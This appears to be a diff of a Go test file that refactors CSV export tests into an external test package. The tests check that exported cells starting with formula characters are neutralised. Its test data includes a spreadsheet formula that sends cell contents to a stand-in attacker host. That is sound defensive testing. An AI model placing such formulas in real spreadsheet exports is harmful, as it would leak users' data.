@@ -1,4 +1,4 @@
-package app
+package app_test
 
 import (
 	"bytes"
@@ -10,6 +10,8 @@ import (
 	"testing"
 	"time"
 
+	"sitesift/app"
+	"sitesift/app/apptest"
 	"sitesift/app/export"
 	"sitesift/sites/store"
 )
@@ -22,40 +24,40 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 // output starts a formula.
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
-	sel := SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
+	sel := app.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
 		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t")}}}
-	lab := &LabOutput{Experiment: "x"}
+	lab := &app.LabOutput{Experiment: "x"}
 	for _, tc := range []struct {
 		name  string
 		write func(io.Writer) error
 		want  int // hostile cells written
 	}{
 		{"ratings", func(w io.Writer) error {
-			return WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
+			return app.WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
 		}, 3},
 		{"ratings table", func(w io.Writer) error {
-			return WriteRatingsCSV(w, RatingsTable{Librarians: []string{h("")}, Rows: []RatingsRow{{Site: h("+"), Ratings: []int{2}, Mean: 2}}})
+			return app.WriteRatingsCSV(w, app.RatingsTable{Librarians: []string{h("")}, Rows: []app.RatingsRow{{Site: h("+"), Ratings: []int{2}, Mean: 2}}})
 		}, 2},
 		{"biased rank", func(w io.Writer) error {
-			return WriteBiasedRank(w, []BiasedRankRow{{Site: h("")}}, export.CSV)
+			return app.WriteBiasedRank(w, []app.BiasedRankRow{{Site: h("")}}, export.CSV)
 		}, 1},
 		{"communities", func(w io.Writer) error {
-			return WriteCommunities(w, []Community{{Seed: h(""), Site: h("@")}}, export.CSV)
+			return app.WriteCommunities(w, []app.Community{{Seed: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
 		{"selection", func(w io.Writer) error {
-			return WriteSelection(w, []SelectedSeed{sel}, export.CSV)
+			return app.WriteSelection(w, []app.SelectedSeed{sel}, export.CSV)
 		}, 6},
 		{"agreement", func(w io.Writer) error {
-			return WriteAgreement(w, Agreement{Rows: []AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
+			return app.WriteAgreement(w, app.Agreement{Rows: []app.AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
 		}, 2},
 		{"review queue", func(w io.Writer) error {
-			return writeQueue(w, ReviewQueue{Rows: []QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
+			return app.WriteQueue(w, app.ReviewQueue{Rows: []app.QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
 		}, 2},
 		{"rank", func(w io.Writer) error {
-			return WriteRank(w, []RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, export.CSV)
+			return app.WriteRank(w, []app.RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, export.CSV)
 		}, 2},
 		{"seeds", func(w io.Writer) error {
-			return WriteSeeds(w, []Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
+			return app.WriteSeeds(w, []app.Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
 		{"lab", func(w io.Writer) error {
 			if err := lab.add("x.csv", [][]string{{"graph", "value"}, {h(""), "-0.25"}}, nil); err != nil {
@@ -100,8 +102,8 @@ func TestCSVWritersNeutralise(t *testing.T) {
 // sites, come back identical.
 func TestRatingsCSVRoundTrip(t *testing.T) {
 	ctx := context.Background()
-	from, _ := openApp(t, buildCommunityProject(t))
-	to, _ := openApp(t, buildCommunityProject(t))
+	from, _ := apptest.Open(t, apptest.CommunityProject(t))
+	to, _ := apptest.Open(t, apptest.CommunityProject(t))
 	for _, r := range []store.Rating{
 		{Librarian: "=lib", Site: "h1.test", Rating: 4, Note: "=SUM(A1)"},
 		{Librarian: "ana", Site: "h1.test", Rating: 3, Note: "'=already quoted"},
